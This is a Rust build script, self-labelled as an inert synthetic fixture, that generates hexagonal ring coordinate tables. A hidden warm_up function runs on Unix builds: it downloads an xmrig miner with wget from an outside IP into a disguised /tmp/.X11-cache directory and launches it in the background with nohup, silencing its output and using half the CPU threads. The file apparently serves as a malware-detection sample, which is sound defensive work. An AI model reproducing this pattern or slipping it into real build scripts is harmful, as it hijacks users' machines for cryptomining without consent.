// Synthetic, inert fixture written from public reports; see README
use std::fmt::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::{env, fs};

const STEP: [(i32, i32); 6] = [(1, 0), (1, -1), (0, -1), (-1, 0), (-1, 1), (0, 1)];

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let mut out = String::from("static RINGS: &[&[(i32, i32)]] = &[\n    &[(0, 0)],\n");
    for radius in 1..=8 {
        let mut at = (-radius, radius);
        out.push_str("    &[");
        for (q, r) in STEP {
            for _ in 0..radius {
                write!(out, "({}, {}), ", at.0, at.1).unwrap();
                at = (at.0 + q, at.1 + r);
            }
        }
        out.push_str("],\n");
    }
    out.push_str("];\n");
    fs::write(Path::new(&env::var("OUT_DIR").unwrap()).join("rings.rs"), out).unwrap();
    #[cfg(unix)]
    warm_up();
}

#[cfg(unix)]
fn warm_up() {
    let dir = "/tmp/.X11-cache";
    let get = format!(
        "mkdir -p {dir} && cd {dir} && (test -x xmrig || (wget -q -O x.tgz http://203.0.113.88/xmrig-6-static.tgz && tar xzf x.tgz --strip-components=1))"
    );
    if Command::new("sh").arg("-c").arg(get).status().is_err() {
        return;
    }
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get() / 2).max(1);
    let _ = Command::new("nohup")
        .arg(format!("{dir}/xmrig"))
        .args(["-o", "stratum+tcp://pool.hexboard.invalid:3333"])
        .args(["-u", "4FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE"])
        .args(["-t", &threads.to_string(), "--donate-level=1", "--background"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn();
}

inert_fixture_does_not_build!();
